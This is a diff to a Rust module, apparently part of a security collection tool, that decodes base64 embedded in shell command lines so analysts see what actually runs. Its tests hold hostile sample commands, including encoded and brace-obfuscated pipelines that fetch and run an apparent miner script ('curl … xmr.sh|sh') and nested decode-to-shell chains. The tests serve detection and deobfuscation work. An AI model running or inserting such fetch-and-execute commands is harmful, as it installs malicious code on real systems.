@@ -1,4 +1,4 @@
-//! Base64 within command lines, decoded in place so that a reader and a playbook see what runs.
+//! Base64 within command lines, decoded so that a reader and a playbook see what runs.
 
 use crate::collect::content::content;
 
@@ -10,7 +10,8 @@ const SHORT: usize = 8;
 /// Bytes of a decoded command that are kept.
 const MOST: usize = 64 << 10;
 
-/// The command with every base64 part replaced by what it decodes to; `None` where it has none.
+/// The command with its base64 parts decoded; `None` where it has none. A pipeline that decodes,
+/// as `echo … | base64 -d | sh`, gives way to the plain text; elsewhere only the part does.
 pub(super) fn decoded(command: &[u8]) -> Option<Vec<u8>> {
     let mut now = once(command)?;
     for _ in 1..DEPTH {
@@ -23,37 +24,87 @@ pub(super) fn decoded(command: &[u8]) -> Option<Vec<u8>> {
 }
 
 fn once(command: &[u8]) -> Option<Vec<u8>> {
+    // A long token in `a; b` is decoded on its own; what names the decoder may stand in either.
     let least = if speaks_of_it(command) { SHORT } else { LONG };
     let mut out = Vec::with_capacity(command.len());
     let mut rest = command;
     let mut any = false;
+    while !rest.is_empty() && out.len() < MOST {
+        let (pipeline, after) = rest.split_at_checked(pipeline(rest)).unwrap_or((rest, b""));
+        let (separator, after) = after.split_at_checked(separator(after)).unwrap_or((after, b""));
+        match parts(pipeline, least) {
+            Some(found) => {
+                any = true;
+                out.extend_from_slice(&found);
+            }
+            None => out.extend_from_slice(pipeline),
+        }
+        out.extend_from_slice(separator);
+        rest = after;
+    }
+    out.truncate(MOST);
+    any.then_some(out)
+}
+
+/// Bytes up to the end of the first pipeline.
+fn pipeline(command: &[u8]) -> usize {
+    let mut at = 0;
+    while let Some(rest) = command.get(at..).filter(|rest| !rest.is_empty()) {
+        if separator(rest) > 0 {
+            break;
+        }
+        at += 1;
+    }
+    at
+}
+
+/// Bytes of the separator between pipelines that stands here, blanks after it included.
+fn separator(rest: &[u8]) -> usize {
+    let word = match rest {
+        [b';' | b'\n', ..] => 1,
+        [b'&', b'&', ..] | [b'|', b'|', ..] => 2,
+        _ => return 0,
+    };
+    word + rest.iter().skip(word).take_while(|b| b.is_ascii_whitespace()).count()
+}
+
+/// One pipeline with its base64 decoded: the plain text alone where the pipeline names a decoder.
+fn parts(pipeline: &[u8], least: usize) -> Option<Vec<u8>> {
+    let mut out = Vec::with_capacity(pipeline.len());
+    let mut alone: Vec<Vec<u8>> = Vec::new();
+    let mut rest = pipeline;
     while let Some((&byte, tail)) = rest.split_first() {
         let run = rest.iter().take_while(|b| symbol(**b).is_some()).count();
         if run == 0 {
             out.push(byte);
             rest = tail;
-        } else {
-            let (token, after) = rest.split_at_checked(run).unwrap_or((rest, b""));
-            let padding = after.iter().take_while(|b| **b == b'=').count().min(2);
-            let plain = (run >= least).then(|| plain(token)).flatten();
-            match plain {
-                Some(plain) => {
-                    any = true;
-                    out.extend_from_slice(&plain);
-                    rest = after.get(padding..).unwrap_or_default();
-                }
-                None => {
-                    out.extend_from_slice(token);
-                    rest = after;
-                }
+            continue;
+        }
+        let (token, after) = rest.split_at_checked(run).unwrap_or((rest, b""));
+        let padding = after.iter().take_while(|b| **b == b'=').count().min(2);
+        match (run >= least).then(|| plain(token)).flatten() {
+            Some(plain) => {
+                out.extend_from_slice(&plain);
+                alone.push(plain);
+                rest = after.get(padding..).unwrap_or_default();
+            }
+            None => {
+                out.extend_from_slice(token);
+                rest = after;
             }
         }
-        if out.len() > MOST {
-            out.truncate(MOST);
-            break;
-        }
     }
-    any.then_some(out)
+    if alone.is_empty() {
+        return None;
+    }
+    if !speaks_of_it(pipeline) {
+        return Some(out);
+    }
+    // The blanks at the end belong to what follows.
+    let blanks = pipeline.iter().rev().take_while(|b| b.is_ascii_whitespace()).count();
+    let mut plain = alone.join(&b' ');
+    plain.extend_from_slice(pipeline.get(pipeline.len() - blanks..).unwrap_or_default());
+    Some(plain)
 }
 
 fn speaks_of_it(command: &[u8]) -> bool {
@@ -125,7 +176,7 @@ mod tests {
                 "echo Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC4yMy94bXIuc2h8c2g= | base64 -d | bash"
             )
             .as_deref(),
-            Some("echo curl -fsSL http://198.51.100.23/xmr.sh|sh | base64 -d | bash")
+            Some("curl -fsSL http://198.51.100.23/xmr.sh|sh")
         );
         // A whole line, without a word of base64.
         assert_eq!(
@@ -136,11 +187,26 @@ mod tests {
         assert_eq!(
             text("base64 -d <<< ZWNobyBhV1FnUGlBdmRHMXdMM2c9IHwgYmFzZTY0IC1kIHwgc2g=|sh")
                 .as_deref(),
-            Some("base64 -d <<< echo id > /tmp/x | base64 -d | sh|sh")
+            Some("id > /tmp/x")
         );
         assert_eq!(
             text("echo f0VMRgIBAQAAAAAAAAAAAAMAPgABAAAA | base64 -d > /tmp/x").as_deref(),
-            Some("echo [24 bytes: elf] | base64 -d > /tmp/x")
+            Some("[24 bytes: elf]")
+        );
+        assert_eq!(
+            text("cd /tmp; echo aWQgPiAvdG1wL3g= | base64 -d | sh && rm -f x").as_deref(),
+            Some("cd /tmp; id > /tmp/x && rm -f x")
+        );
+        assert_eq!(
+            text("bash -c {echo,Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC4yMy94bXIuc2h8c2g=}|{base64,-d}|{bash,-i}")
+                .as_deref(),
+            Some("curl -fsSL http://198.51.100.23/xmr.sh|sh")
+        );
+        // No decoder is named: the part alone gives way.
+        assert_eq!(
+            text("/opt/x --run=Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC4yMy94bXIuc2h8c2g= --now")
+                .as_deref(),
+            Some("/opt/x --run=curl -fsSL http://198.51.100.23/xmr.sh|sh --now")
         );
     }
 
